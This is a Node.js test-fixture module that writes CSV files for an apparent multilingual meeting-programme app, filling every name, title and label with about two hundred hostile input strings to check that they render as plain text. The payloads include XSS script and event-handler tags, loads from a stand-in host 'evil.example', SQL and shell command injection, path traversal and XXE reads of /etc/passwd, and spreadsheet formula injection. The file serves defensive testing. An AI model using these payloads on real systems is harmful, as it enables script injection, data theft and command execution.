// What somebody would type into a field to harm who reads it: some two hundred well-known shapes, and a round in which
// every name, title and label is one of them.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const HIT = 'window.__hit=1';
const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'details open', 'input autofocus', 'object data=x', 'marquee', 'style', 'a href=x'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java&#9;script:', '&#106;avascript:', 'javascript&colon;', 'data:text/html,', 'data:text/html;base64,', 'vbscript:', 'blob:', 'view-source:', '//evil.example/', 'https://evil.example/'];
const CARRIERS = ['<a href="$">x</a>', '<iframe src="$"></iframe>', '<form action="$"><button>x</button></form>'];

// Taken as they are: they must be shown as text, letter for letter.
export const SHOWN = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${HIT}>`)),
  ...SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier.replace('$', `${scheme}${HIT}`))),
  `<script>${HIT}</script>`, `<ScRiPt>${HIT}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<<script>${HIT}//<</script>`,
  `<script/x>${HIT}</script>`, `</script><script>${HIT}</script>`, `</title><script>${HIT}</script>`, `</textarea><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`, `--><script>${HIT}</script>`, `<!--<img src="--><img src=x onerror=${HIT}//">`, `]]><script>${HIT}</script>`,
  `<![CDATA[<script>${HIT}</script>]]>`, `<?xml version="1.0"?><x/>`, `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, '`><script>' + HIT + '</script>',
  `" onfocus=${HIT} autofocus="`, `' onfocus=${HIT} autofocus='`, `" style="position:fixed;inset:0" x="`, `x" data-testid="call-next`,
  `<svg><script>${HIT}</script></svg>`, `<svg><animate onbegin=${HIT} attributeName=x>`, `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<svg><foreignObject><script>${HIT}</script></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,x#y"/></svg>`, `<math><mtext><img src=x onerror=${HIT}></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, `<template><script>${HIT}</script></template>`, `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example/>`,
  `<style>@import url(//evil.example/x.css);*{display:none}</style>`, `<style>body{display:none}</style>`, `</style>*{display:none}`, `}*{display:none}body{`,
  `url(//evil.example/x.png)`, `expression(${HIT})`, `-moz-binding:url(//evil.example/x)`, `<p style="position:fixed;inset:0;background:red">`, `<div id=root></div>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`, `<embed src=//evil.example/x.swf>`, `<portal src=//evil.example/>`, `<dialog open>x</dialog>`,
  `{{constructor.constructor('${HIT}')()}}`, '${' + HIT + '}', '#{' + HIT + '}', `<%= ${HIT} %>`, `{$name}`, `{ -brand }`, `{ NUMBER($n) }`, `{"__html":"<b>x</b>"}`,
  `{"$case":"callNext"}`, `__proto__`, `constructor`, `[object Object]`, `undefined`, `null`, `NaN`, `true`, `-1`, `0x7fffffff`, `%s%n%x`, `%00`, `%3Cscript%3E`,
  `\\u003cscript\\u003e`, `\\x3cscript\\x3e`, `&lt;script&gt;`, `&amp;lt;b&amp;gt;`, `&#60;script&#62;`, `&nbsp;&zwj;`, `+ADw-script+AD4-`, `<\u200bscript>${HIT}</script>`,
  `＜script＞${HIT}＜/script＞`, `‹script›`, `﹤img onerror=${HIT}﹥`, `Kеnya`, `Ⓚenya`, `K\u200dE`, `e${'\u0301\u0302\u0303\u0308'.repeat(8)}x`, `نص عربي <b>x</b> عربي`,
  `اسم"><img src=x onerror=${HIT}>`, `肯尼亚<script>${HIT}</script>`, `👩‍👩‍👧‍👦👨🏿‍⚖️🇰🇪`, `\u{1F600}<b>`, `W`.repeat(60), `<b>${'x'.repeat(50)}`, `ffi\u00ad\u00adl`, `​​​.`,
  `';drop table log;--`, `' or '1'='1`, `../../etc/passwd`, `| id`, `; id`, '$(id)', '`id`', `{{7*7}}`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
  `=HYPERLINK("//evil.example","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `＝1+1`,
].map((each) => each.normalize('NFC'));

// Refused, with the field named: control characters, line ends, overrides of the direction, what is no character.
export const REFUSED = [
  '\u0000', 'a\u0000b', '\u0001', 'a\u0008b', 'a\tb', 'a\nb', 'a\rb', '\u001b[31m', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029', '\u202a', '\u202b', '\u202c',
  '\u202dKenya', '\u202eayneK', '\u2066', '\u2067', '\u2068', '\u2069', '\ufeff', '\ufffe', '\uffff', '\u{1ffff}',
];

// All of SHOWN in as few texts as fit, each of at most `most` bytes.
export function packs(most) {
  const packed = [''];
  for (const each of SHOWN) {
    const longer = packed.at(-1) === '' ? each : `${packed.at(-1)} ${each}`;
    if (Buffer.byteLength(longer) <= most) packed[packed.length - 1] = longer;
    else if (Buffer.byteLength(each) <= most) packed.push(each);
  }
  return packed;
}

// ---------------------------------------------------------------- the round

const cell = (text) => `"${(/^'*[=+\-@＝＋－＠]/.test(text) ? `'${text}` : text).replaceAll('"', '""')}"`;
const line = (cells) => `${cells.map(cell).join(',')}\n`;
const LANGUAGES = ['en', 'fr', 'es', 'ru', 'ar', 'zh'];
const at = (i) => SHOWN[i % SHOWN.length];
const inSix = (i) => LANGUAGES.map((_, k) => at(i + k));
// Files of a round hold texts of at most 300 bytes.
const titles = packs(290);
const labels = SHOWN.filter((each) => Buffer.byteLength(each) <= 60).slice(0, 60);

export const people = SHOWN.map((_, i) => ({ code: `P${i}`, names: inSix(i) }));
// Two with ordinary names, for the phones.
const ORDINARY = { KE: 'Kenya', BR: 'Brazil' };

export function hostileRound(from, to) {
  mkdirSync(to, { recursive: true });
  const settings = readFileSync(join(from, 'round.csv'), 'utf8').split('\n').map((each) => {
    const key = each.split(',')[0];
    const language = LANGUAGES.indexOf(key.slice(-2));
    if (key.startsWith('title_')) return line([key, titles[language]]).trimEnd();
    if (key.startsWith('place_')) return line([key, titles[6 + language] ?? titles[0]]).trimEnd();
    if (key.startsWith('presiding_')) return line([key, `KE ${packs(290)[1]}`]).trimEnd();
    return key === 'rights' ? null : each;
  }).filter((each, i, all) => each !== null && !(each.startsWith('"presiding_') && all.findIndex((one) => one?.startsWith('"presiding_')) !== i));
  writeFileSync(join(to, 'round.csv'), settings.join('\n'));
  const names = LANGUAGES.map((language) => `name_${language}`);
  writeFileSync(join(to, 'participants.csv'), line(['code', 'category', ...names])
    + Object.entries(ORDINARY).map(([code, name]) => line([code, 'member_state', ...LANGUAGES.map(() => name)])).join('')
    + people.map(({ code, names: six }) => line([code, 'member_state', ...six])).join(''));
  writeFileSync(join(to, 'groups.csv'), line(['code', 'members', ...names])
    + SHOWN.slice(0, 199).map((_, i) => line([`G${i}`, 'KE BR', ...inSix(i)])).join(''));
  const meeting = (number, day, topic, kind, i) => line([String(number), day, number % 2 === 1 ? '10:00' : '15:00', number % 2 === 1 ? '13:00' : '18:00', String(topic), kind, '', '', '', '', '',
    ...LANGUAGES.map((_, k) => titles[(i + k) % titles.length])]);
  writeFileSync(join(to, 'programme.csv'),
    `meeting,date,begins,ends,topic,kind,list_opens,ordering,limits,unit,unit_label,${LANGUAGES.map((each) => `title_${each}`).join()}\n`
    + titles.map((_, i) => meeting(i + 1, `2018-03-${12 + Math.floor(i / 2)}`, i + 1, i === 1 ? 'reading' : 'discussion', i)).join('')
    + labels.map((label, i) => line(['', '', '', '', '2', '', '', '', '', String(i + 1), label, ...inSix(i)])).join(''));
  return { titles, labels };
}
